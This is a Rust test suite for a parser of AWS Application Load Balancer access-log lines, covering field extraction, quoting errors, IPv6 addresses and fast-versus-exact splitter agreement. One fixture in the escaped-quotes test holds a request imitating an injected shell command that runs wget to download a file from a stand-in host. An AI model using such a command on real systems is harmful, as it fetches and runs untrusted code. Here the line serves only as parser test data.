//! Field rules of the parser, one behaviour per test.

use super::*;

/// A complete 34-field line (2026 layout) built from named parts so tests can vary one field.
fn line_with(replace: &[(Field, &str)]) -> String {
    let mut fields: Vec<String> = [
        "https",
        "2026-11-27T09:30:05.123456Z",
        "app/shop-web/50dc6c495c0c9188",
        "203.0.113.9:51234",
        "10.0.1.23:3000",
        "0.000",
        "0.003",
        "0.000",
        "304",
        "304",
        "723",
        "679",
        "\"GET https://shop.example.com:443/api/cart?x=1 HTTP/1.1\"",
        "\"Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0\"",
        "TLS_AES_128_GCM_SHA256",
        "TLSv1.3",
        "arn:aws:elasticloadbalancing:us-east-1:123456789012:targetgroup/shop-web-tg/73e2d6bc24d8a067",
        "\"Root=1-6746e5a5-0123456789abcdef01234567\"",
        "\"shop.example.com\"",
        "\"session-reused\"",
        "10",
        "2026-11-27T09:30:05.120000Z",
        "\"forward\"",
        "\"-\"",
        "\"-\"",
        "\"10.0.1.23:3000\"",
        "\"304\"",
        "\"-\"",
        "\"-\"",
        "TID_0123456789abcdef0123456789abcdef",
        "\"-\"",
        "\"-\"",
        "\"-\"",
        "10.0.1.5",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();
    for (field, value) in replace {
        fields[field.index()] = value.to_string();
    }
    fields.join(" ")
}

fn parse(line: &str) -> Result<Record<'_>, ParseError> {
    parse_line(line.as_bytes())
}

#[test]
fn full_line_gives_every_field_by_name() {
    let line = line_with(&[]);
    let r = parse(&line).unwrap();
    assert_eq!(r.field_count(), 34);
    assert_eq!(r.kind(), b"https");
    assert_eq!(r.elb(), b"app/shop-web/50dc6c495c0c9188");
    assert_eq!(r.client(), Some(&b"203.0.113.9:51234"[..]));
    assert_eq!(r.target(), Some(&b"10.0.1.23:3000"[..]));
    assert_eq!(r.request_processing_time_ms(), Some(0));
    assert_eq!(r.target_processing_time_ms(), Some(3));
    assert_eq!(r.response_processing_time_ms(), Some(0));
    assert_eq!(r.elb_status_code(), Some(304));
    assert_eq!(r.target_status_code(), Some(304));
    assert_eq!(r.received_bytes(), Some(723));
    assert_eq!(r.sent_bytes(), Some(679));
    assert_eq!(r.request(), Some(&b"GET https://shop.example.com:443/api/cart?x=1 HTTP/1.1"[..]));
    assert_eq!(r.user_agent(), Some(&b"Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0"[..]));
    assert_eq!(r.ssl_cipher(), Some(&b"TLS_AES_128_GCM_SHA256"[..]));
    assert_eq!(r.ssl_protocol(), Some(&b"TLSv1.3"[..]));
    assert!(r.target_group_arn().unwrap().ends_with(b"targetgroup/shop-web-tg/73e2d6bc24d8a067"));
    assert_eq!(r.trace_id(), Some(&b"Root=1-6746e5a5-0123456789abcdef01234567"[..]));
    assert_eq!(r.domain_name(), Some(&b"shop.example.com"[..]));
    assert_eq!(r.chosen_cert_arn(), Some(&b"session-reused"[..]));
    assert_eq!(r.matched_rule_priority(), Some(10));
    assert_eq!(
        r.request_creation_time().unwrap().micros() + 3_456,
        r.time().micros(),
        "time is 3.456 ms after request_creation_time"
    );
    assert_eq!(r.actions_executed(), Some(&b"forward"[..]));
    assert_eq!(r.redirect_url(), None);
    assert_eq!(r.error_reason(), None);
    assert_eq!(r.target_port_list(), Some(&b"10.0.1.23:3000"[..]));
    assert_eq!(r.target_status_code_list(), Some(&b"304"[..]));
    assert_eq!(r.classification(), None);
    assert_eq!(r.classification_reason(), None);
    assert_eq!(r.conn_trace_id(), Some(&b"TID_0123456789abcdef0123456789abcdef"[..]));
    assert_eq!(r.transformed_host(), None);
    assert_eq!(r.transformed_uri(), None);
    assert_eq!(r.request_transform_status(), None);
    assert_eq!(r.ip_address(), Some(&b"10.0.1.5"[..]));
}

#[test]
fn dash_and_minus_one_are_none() {
    let line = line_with(&[
        (Field::Target, "-"),
        (Field::RequestProcessingTime, "-1"),
        (Field::TargetProcessingTime, "-1"),
        (Field::ResponseProcessingTime, "-1"),
        (Field::ElbStatusCode, "502"),
        (Field::TargetStatusCode, "-"),
        (Field::MatchedRulePriority, "-1"),
        (Field::SslCipher, "-"),
    ]);
    let r = parse(&line).unwrap();
    assert_eq!(r.target(), None);
    assert_eq!(r.request_processing_time_ms(), None);
    assert_eq!(r.target_processing_time_ms(), None);
    assert_eq!(r.response_processing_time_ms(), None);
    assert_eq!(r.elb_status_code(), Some(502));
    assert_eq!(r.target_status_code(), None);
    assert_eq!(r.matched_rule_priority(), None);
    assert_eq!(r.ssl_cipher(), None);
    assert_eq!(r.get_raw(Field::SslCipher), Some(&b"-"[..]));
}

#[test]
fn elb_status_dash_is_tolerated() {
    let line = line_with(&[(Field::ElbStatusCode, "-")]);
    assert_eq!(parse(&line).unwrap().elb_status_code(), None);
}

#[test]
fn processing_times_are_whole_milliseconds() {
    for (text, ms) in [
        ("0.000", 0),
        ("4.205", 4205),
        ("9.999", 9999),
        ("12", 12_000),
        ("0.5", 500),
        ("1.2345", 1234),
    ] {
        let line = line_with(&[(Field::TargetProcessingTime, text)]);
        assert_eq!(parse(&line).unwrap().target_processing_time_ms(), Some(ms), "{text}");
    }
}

#[test]
fn unreadable_numbers_make_the_line_malformed() {
    for (field, value) in [
        (Field::RequestProcessingTime, "abc"),
        (Field::TargetProcessingTime, "-2"),
        (Field::ResponseProcessingTime, "1.x"),
        (Field::ResponseProcessingTime, "1.0x0"),
        (Field::RequestProcessingTime, "x.000"),
        (Field::TargetProcessingTime, "1,000"),
        (Field::ResponseProcessingTime, "99999999"),
        (Field::ElbStatusCode, "50"),
        (Field::TargetStatusCode, "5o2"),
        (Field::Time, "yesterday"),
    ] {
        let line = line_with(&[(field, value)]);
        assert_eq!(
            parse(&line).unwrap_err(),
            ParseError::InvalidValue { field },
            "{field}={value}"
        );
    }
}

#[test]
fn lines_from_18_to_34_fields_parse_and_longer_tails_are_ignored() {
    let full = line_with(&[]);
    let fields: Vec<&str> = {
        // split on the separators the tokenizer found, via the parser itself
        let r = parse(&full).unwrap();
        Field::ALL
            .iter()
            .map(|f| r.get_raw(*f).unwrap())
            .map(|b| std::str::from_utf8(b).unwrap())
            .collect()
    };
    assert_eq!(fields.len(), 34);
    // Rebuild prefixes of the full line by cutting at field boundaries.
    let mut cut_points = vec![];
    let bytes = full.as_bytes();
    let mut in_quote = false;
    for (i, &b) in bytes.iter().enumerate() {
        match b {
            b'"' => in_quote = !in_quote,
            b' ' if !in_quote => cut_points.push(i),
            _ => {}
        }
    }
    for keep in MIN_FIELDS..34 {
        let prefix = &full[..cut_points[keep - 1]];
        let r = parse(prefix).unwrap_or_else(|e| panic!("{keep} fields: {e}"));
        assert_eq!(r.field_count(), keep);
        assert!(r.get_raw(Field::ALL[keep - 1]).is_some());
        if keep < 34 {
            assert_eq!(r.get_raw(Field::ALL[keep]), None);
        }
    }
    let short = &full[..cut_points[MIN_FIELDS - 2]];
    assert_eq!(parse(short).unwrap_err(), ParseError::TooFewFields { found: MIN_FIELDS - 1 });

    let longer = format!("{full} \"-\" \"-\" something-new \"with spaces\"");
    let r = parse(&longer).unwrap();
    assert_eq!(r.field_count(), 34);
    assert_eq!(r.ip_address(), Some(&b"10.0.1.5"[..]));
}

#[test]
fn list_fields_may_be_bare_or_quoted() {
    let bare =
        line_with(&[(Field::TargetPortList, "10.0.0.1:80"), (Field::TargetStatusCodeList, "200")]);
    let r = parse(&bare).unwrap();
    assert_eq!(r.target_port_list(), Some(&b"10.0.0.1:80"[..]));
    assert_eq!(r.target_status_code_list(), Some(&b"200"[..]));
    let quoted_many = line_with(&[
        (Field::TargetPortList, "\"10.0.0.1:80 10.0.0.2:80\""),
        (Field::TargetStatusCodeList, "\"502 200\""),
    ]);
    let r = parse(&quoted_many).unwrap();
    assert_eq!(r.target_port_list(), Some(&b"10.0.0.1:80 10.0.0.2:80"[..]));
}

#[test]
fn ipv6_addresses_keep_their_colons() {
    let line = line_with(&[
        (Field::Client, "2a02:a33c:4538:1:bcf4:5264:e01c:f215:50718"),
        (Field::Target, "fd6d:6bbc:c529:6::face:ed83:f46:80"),
    ]);
    let r = parse(&line).unwrap();
    let (host, port) = crate::split_host_port(r.client().unwrap()).unwrap();
    assert_eq!((host, port), (&b"2a02:a33c:4538:1:bcf4:5264:e01c:f215"[..], 50718));
    let (host, port) = crate::split_host_port(r.target().unwrap()).unwrap();
    assert_eq!((host, port), (&b"fd6d:6bbc:c529:6::face:ed83:f46"[..], 80));
}

#[test]
fn escaped_quotes_and_spaces_stay_inside_quoted_fields() {
    let line = line_with(&[
        (Field::UserAgent, r#""Mozilla \"quoted\" agent \\ end""#),
        (Field::Request, "\"GET http://127.0.0.1:80/shell?cd+/tmp;wget+ a.example/x HTTP/1.1\""),
    ]);
    let r = parse(&line).unwrap();
    assert_eq!(r.user_agent(), Some(&br#"Mozilla \"quoted\" agent \\ end"#[..]));
    assert_eq!(
        r.request(),
        Some(&b"GET http://127.0.0.1:80/shell?cd+/tmp;wget+ a.example/x HTTP/1.1"[..])
    );
    assert_eq!(r.ssl_cipher(), Some(&b"TLS_AES_128_GCM_SHA256"[..]), "fields after stay aligned");
}

#[test]
fn malformed_request_variants_parse() {
    for request in ["\"- - -\"", "\"- http://host:80- -\"", "\"- http://host:80-/ \"", "\"\""] {
        let line = line_with(&[(Field::Request, request)]);
        assert!(parse(&line).is_ok(), "{request}");
    }
}

#[test]
fn quoting_errors_are_reported_with_the_field() {
    let glued = line_with(&[(Field::ChosenCertArn, "\"-\"1")]);
    assert_eq!(
        parse(&glued).unwrap_err(),
        ParseError::MissingSeparator { field: Field::ChosenCertArn }
    );

    let unterminated = line_with(&[]).replacen("\"Mozilla", "\"Mozilla \\\"", 1);
    let unterminated = &unterminated[..unterminated.find("Firefox").unwrap()];
    assert!(matches!(parse(unterminated).unwrap_err(), ParseError::UnterminatedQuote { .. }));

    let bare_request = line_with(&[(Field::Request, "GET")]);
    assert_eq!(
        parse(&bare_request).unwrap_err(),
        ParseError::WrongQuoting { field: Field::Request, expected_quoted: true }
    );

    let quoted_status = line_with(&[(Field::ElbStatusCode, "\"200\"")]);
    assert_eq!(
        parse(&quoted_status).unwrap_err(),
        ParseError::WrongQuoting { field: Field::ElbStatusCode, expected_quoted: false }
    );

    let stray = line_with(&[(Field::SslCipher, "ab\"c")]);
    assert_eq!(parse(&stray).unwrap_err(), ParseError::StrayQuote { field: Field::SslCipher });

    let double_space = line_with(&[]).replacen(" 0.003 ", "  0.003 ", 1);
    assert!(matches!(parse(&double_space).unwrap_err(), ParseError::EmptyField { .. }));
    let trailing_space = format!("{} ", &line_with(&[]));
    assert!(
        parse(&trailing_space).is_ok(),
        "a trailing space after field 34 is beyond what we read"
    );
}

#[test]
fn carriage_return_is_ignored() {
    let line = format!("{}\r", line_with(&[]));
    assert_eq!(parse(&line).unwrap().ip_address(), Some(&b"10.0.1.5"[..]));
}

#[test]
fn blank_and_junk_lines_are_errors_not_panics() {
    for junk in [
        "",
        " ",
        "\"",
        "\\",
        "http",
        "\" \" \"",
        "2024-11-29T13:45:24.599544Z 172.31.43.26 58206 80 - - - \"-\" - - - TID_16132ed0b4112148",
    ] {
        assert!(parse(junk).is_err(), "{junk:?}");
    }
}

proptest::proptest! {
    #[test]
    fn arbitrary_bytes_never_panic(bytes in proptest::collection::vec(proptest::num::u8::ANY, 0..600)) {
        let _ = parse_line(&bytes);
    }

    #[test]
    fn mutated_valid_lines_never_panic(pos in 0usize..400, byte in proptest::num::u8::ANY) {
        let mut line = line_with(&[]).into_bytes();
        let pos = pos % line.len();
        line[pos] = byte;
        if let Ok(record) = parse_line(&line) {
            for field in Field::ALL {
                let _ = record.get(field);
            }
            let _ = record.request_creation_time();
        }
    }
}

#[test]
fn load_balancer_must_be_an_application_load_balancer_id() {
    for elb in [
        "net/evil/1",
        "-",
        "app/shop-web",
        "app//1",
        "app/shop-web/",
        "app/a/b/c",
        "app/a.b/1",
        "x",
    ] {
        let line = line_with(&[(Field::Elb, elb)]);
        assert_eq!(
            parse(&line).unwrap_err(),
            ParseError::InvalidValue { field: Field::Elb },
            "{elb}"
        );
    }
    let line = line_with(&[(Field::Elb, "app/k8s-apidev-95472999b0/xxxxxxxxxx")]);
    assert_eq!(parse(&line).unwrap().elb(), b"app/k8s-apidev-95472999b0/xxxxxxxxxx");
}

#[test]
fn target_must_be_an_address_and_port_or_dash() {
    for target in
        ["-1", "foo", "foo:80", "10.0.0.1", "10.0.0.1:", "10.0.0.1:99999", ":80", "10.0.0.1:8x"]
    {
        let line = line_with(&[(Field::Target, target)]);
        assert_eq!(
            parse(&line).unwrap_err(),
            ParseError::InvalidValue { field: Field::Target },
            "{target}"
        );
    }
    for target in ["-", "10.0.0.1:80", "fd6d:6bbc:c529:6::face:ed83:f46:80", "[fd00::1]:443"] {
        let line = line_with(&[(Field::Target, target)]);
        assert!(parse(&line).is_ok(), "{target}");
    }
}

#[test]
fn status_codes_must_be_numbers_or_dash() {
    for (field, value) in [
        (Field::ElbStatusCode, "5O2"),
        (Field::ElbStatusCode, "-1"),
        (Field::TargetStatusCode, "abc"),
        (Field::TargetStatusCode, "2000"),
    ] {
        let line = line_with(&[(field, value)]);
        assert_eq!(parse(&line).unwrap_err(), ParseError::InvalidValue { field }, "{value}");
    }
}

#[test]
fn quoting_surprises_from_field_26_on_keep_the_entry_with_a_warning() {
    let cases = [
        (
            Field::TargetPortList,
            "\"10.0.1.23:3000\"x",
            ParseError::MissingSeparator { field: Field::TargetPortList },
        ),
        (
            Field::Classification,
            "Acceptable",
            ParseError::WrongQuoting { field: Field::Classification, expected_quoted: true },
        ),
        (
            Field::ConnTraceId,
            "\"TID_0123\"",
            ParseError::WrongQuoting { field: Field::ConnTraceId, expected_quoted: false },
        ),
        (
            Field::TransformedHost,
            "\"a\"b\"",
            ParseError::MissingSeparator { field: Field::TransformedHost },
        ),
        (Field::IpAddress, "10.0\"1.5", ParseError::StrayQuote { field: Field::IpAddress }),
    ];
    for (field, value, warning) in cases {
        let line = line_with(&[(field, value)]);
        let record = parse(&line).unwrap_or_else(|e| panic!("{field}: {e}"));
        assert_eq!(record.warning(), Some(warning), "{field}");
        assert_eq!(record.field_count(), field.index(), "fields before {field} are kept");
        assert_eq!(record.elb_status_code(), Some(304));
        assert_eq!(record.get(field), None);
    }
    let unterminated =
        format!("{} \"never closed", line_with(&[]).rsplit_once(" \"10.0.1.23:3000\"").unwrap().0);
    let record = parse(&unterminated).unwrap();
    assert_eq!(
        record.warning(),
        Some(ParseError::UnterminatedQuote { field: Field::TargetPortList })
    );
    assert_eq!(record.error_reason(), None, "field 25 (\"-\") is read");
    assert_eq!(record.field_count(), 25);

    assert_eq!(parse(&line_with(&[])).unwrap().warning(), None);
    let error_reason = line_with(&[(Field::ErrorReason, "\"a\"b")]);
    assert_eq!(
        parse(&error_reason).unwrap_err(),
        ParseError::MissingSeparator { field: Field::ErrorReason },
        "field 25 is still strict"
    );
}

/// The block splitter must take the common lines itself, or the speed it exists for is lost;
/// every variant of it this CPU runs is held to that.
#[test]
fn well_formed_lines_take_the_block_splitter() {
    let full = line_with(&[]);
    let record = parse(&full).unwrap();
    assert_eq!(record.user_agent(), Some(&b"Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0"[..]));
    let prefix_end = full.find("TLS_AES").unwrap();
    let tail: Vec<&str> = full[prefix_end..].split(' ').collect();
    assert_eq!(tail.len(), Field::COUNT - 14);
    let escaped = line_with(&[(Field::UserAgent, r#""agent \"x\"""#)]);
    let surprise = line_with(&[(Field::Classification, "Acceptable")]);
    assert!(parse(&surprise).unwrap().warning().is_some());
    for split in std::iter::once(fast::split_fields as fast::Splitter).chain(fast::variants()) {
        let mut fields = Fields::EMPTY;
        assert_eq!(split(full.as_bytes(), &mut fields).expect("a full line").count, Field::COUNT);
        // Shorter layouts: the 2016 launch layout (18 fields) up to 33 fields; from field 14 on,
        // the spaces of this line are all separators.
        for count in MIN_FIELDS..Field::COUNT {
            let line = format!("{}{}", &full[..prefix_end], tail[..count - 14].join(" "));
            let split = split(line.as_bytes(), &mut fields).expect("a shorter layout");
            assert_eq!(split.count, count);
            assert!(splitters_agree(line.as_bytes()));
        }
        // A line with a backslash, and a line with a quoting surprise, go to the exact splitter.
        assert!(split(escaped.as_bytes(), &mut fields).is_none());
        assert!(split(surprise.as_bytes(), &mut fields).is_none());
    }
}

/// Lines of the shortest fields AWS writes (`-`, `"-"`, `-1`, `0`) put more than 16 field ends in
/// one 64-byte block, which the block splitter's vector variant stores in several groups; the
/// user agent's length moves those ends across every offset of a block.
#[test]
fn dense_blocks_split_alike_at_every_offset() {
    let dense = [
        (Field::Target, "-"),
        (Field::RequestProcessingTime, "-1"),
        (Field::TargetProcessingTime, "-1"),
        (Field::ResponseProcessingTime, "-1"),
        (Field::ElbStatusCode, "460"),
        (Field::TargetStatusCode, "-"),
        (Field::ReceivedBytes, "0"),
        (Field::SentBytes, "0"),
        (Field::Request, "\"- - -\""),
        (Field::SslCipher, "-"),
        (Field::SslProtocol, "-"),
        (Field::TargetGroupArn, "-"),
        (Field::TraceId, "\"-\""),
        (Field::DomainName, "\"-\""),
        (Field::ChosenCertArn, "\"-\""),
        (Field::MatchedRulePriority, "-"),
        (Field::RequestCreationTime, "-"),
        (Field::ActionsExecuted, "\"-\""),
        (Field::TargetPortList, "-"),
        (Field::TargetStatusCodeList, "-"),
        (Field::ConnTraceId, "-"),
        (Field::IpAddress, "-"),
    ];
    for pad in 0..64 {
        let agent = format!("\"{}\"", "a".repeat(pad));
        let mut replace = dense.to_vec();
        replace.push((Field::UserAgent, &agent));
        let line = line_with(&replace);
        assert!(splitters_agree(line.as_bytes()), "{line}");
        for split in fast::variants() {
            let mut fields = Fields::EMPTY;
            assert_eq!(split(line.as_bytes(), &mut fields).map(|s| s.count), Some(Field::COUNT));
        }
        let record = parse(&line).unwrap();
        assert_eq!(record.elb_status_code(), Some(460));
        assert_eq!(record.request(), Some(&b"- - -"[..]));
        assert_eq!(record.user_agent(), Some(agent.trim_matches('"').as_bytes()));
        assert_eq!(record.target_group_arn(), None);
        assert_eq!(record.ip_address(), None);
        // Past the last documented field: further short fields are ignored.
        let longer = format!("{line} - - \"-\" - - - - - - - - - - - - - - - -");
        assert!(splitters_agree(longer.as_bytes()));
        assert_eq!(parse(&longer).unwrap().field_count(), Field::COUNT);
    }
}

/// Every change of one byte to a structural byte (or a letter), and every deleted byte, of
/// lines with fields ending at every offset of a block: the two splitters agree.
#[test]
fn both_splitters_agree_on_every_one_byte_change() {
    let mut lines = vec![line_with(&[]), format!("{}\r", line_with(&[]))];
    for pad in 0..64 {
        let agent = format!("\"{}\"", "a".repeat(pad));
        lines.push(line_with(&[(Field::UserAgent, &agent)]));
    }
    lines.push(line_with(&[(Field::UserAgent, r#""a \"b\" \\""#)]));
    for line in &lines {
        let bytes = line.as_bytes();
        assert!(splitters_agree(bytes));
        for pos in 0..bytes.len() {
            for byte in [b' ', b'"', b'\\', b'x'] {
                let mut changed = bytes.to_vec();
                changed[pos] = byte;
                assert!(splitters_agree(&changed), "{}", String::from_utf8_lossy(&changed));
            }
            let mut shorter = bytes.to_vec();
            shorter.remove(pos);
            assert!(splitters_agree(&shorter), "{}", String::from_utf8_lossy(&shorter));
            assert!(splitters_agree(&bytes[..pos]), "{}", String::from_utf8_lossy(&bytes[..pos]));
        }
    }
}

proptest::proptest! {
    #[test]
    fn both_splitters_agree_on_lines_with_structural_noise(
        edits in proptest::collection::vec(
            (0usize..700, proptest::sample::select(vec![b' ', b'"', b'\\', b'x', b'\r'])),
            1..6,
        )
    ) {
        let mut line = line_with(&[]).into_bytes();
        for (pos, byte) in edits {
            let pos = pos % (line.len() + 1);
            line.insert(pos, byte);
        }
        proptest::prop_assert!(splitters_agree(&line));
    }
}

proptest::proptest! {
    #[test]
    fn a_line_parser_gives_what_parse_line_gives_whatever_came_before(
        lines in proptest::collection::vec(
            (
                proptest::sample::select(vec![
                    "2026-11-27T09:30:05.123456Z",
                    "2026-11-27T09:30:59.999999Z",
                    "2026-11-27T09:31:00.000001Z",
                    "2016-12-31T23:59:60.500000Z",
                    "2026-11-27T09:30:61.000000Z",
                    "2026-11-27T09:30:0x.000000Z",
                    "2026-11-27T09:30:05Z",
                    "2026-11-27T09:30:",
                    "2026-11-27T09:3",
                    "\u{0}\u{0}\u{0}\u{0}\u{0}\u{0}\u{0}\u{0}\u{0}\u{0}\u{0}\u{0}\u{0}\u{0}\u{0}\u{0}\u{0}05.000000Z",
                    "2026-02-30T09:30:05.123456Z",
                    "2026-13-27T09:30:05.123456Z",
                ]),
                proptest::sample::select(vec![
                    "app/shop-web/50dc6c495c0c9188",
                    "app/shop-web/50dc6c495c0c9189",
                    "app/shop-web/50dc6c495c0c918",
                    "app/shop_web/50dc6c495c0c9188",
                    "net/shop-web/50dc6c495c0c9188",
                    "app/a-name-of-exactly-thirty-two-c/50dc6c495c0c9188",
                    "app/a-name-that-is-longer-than-any-aws-allows-and-still-valid-here/50dc6c495c0c9188",
                ]),
                proptest::sample::select(vec![
                    "2026-11-27T09:30:05.120000Z",
                    "2026-11-27T09:29:59.990000Z",
                    "2016-12-31T23:59:60.400000Z",
                    "2026-11-27T09:30:5x.120000Z",
                    "-",
                ]),
            ),
            1..12,
        )
    ) {
        let mut parser = LineParser::default();
        for (time, elb, created) in lines {
            let line = line_with(&[
                (Field::Time, time),
                (Field::Elb, elb),
                (Field::RequestCreationTime, created),
            ]);
            proptest::prop_assert_eq!(parser.parse(line.as_bytes()), parse_line(line.as_bytes()));
        }
    }
}

#[test]
fn a_line_parser_remembers_only_what_was_valid() {
    let mut parser = LineParser::default();
    // An invalid load balancer is not remembered: the same text is refused again.
    let bad = line_with(&[(Field::Elb, "app/shop_web/50dc6c495c0c9188")]);
    for _ in 0..2 {
        assert_eq!(
            parser.parse(bad.as_bytes()).unwrap_err(),
            ParseError::InvalidValue { field: Field::Elb }
        );
    }
    // A valid minute with unreadable seconds is refused; the minute itself is still known.
    let good = line_with(&[(Field::Time, "2026-11-27T09:30:05.123456Z")]);
    let seconds = line_with(&[(Field::Time, "2026-11-27T09:30:7x.123456Z")]);
    let micros = parser.parse(good.as_bytes()).unwrap().time().micros();
    assert_eq!(
        parser.parse(seconds.as_bytes()).unwrap_err(),
        ParseError::InvalidValue { field: Field::Time }
    );
    let later = line_with(&[(Field::Time, "2026-11-27T09:30:06.123456Z")]);
    assert_eq!(parser.parse(later.as_bytes()).unwrap().time().micros(), micros + 1_000_000);
}
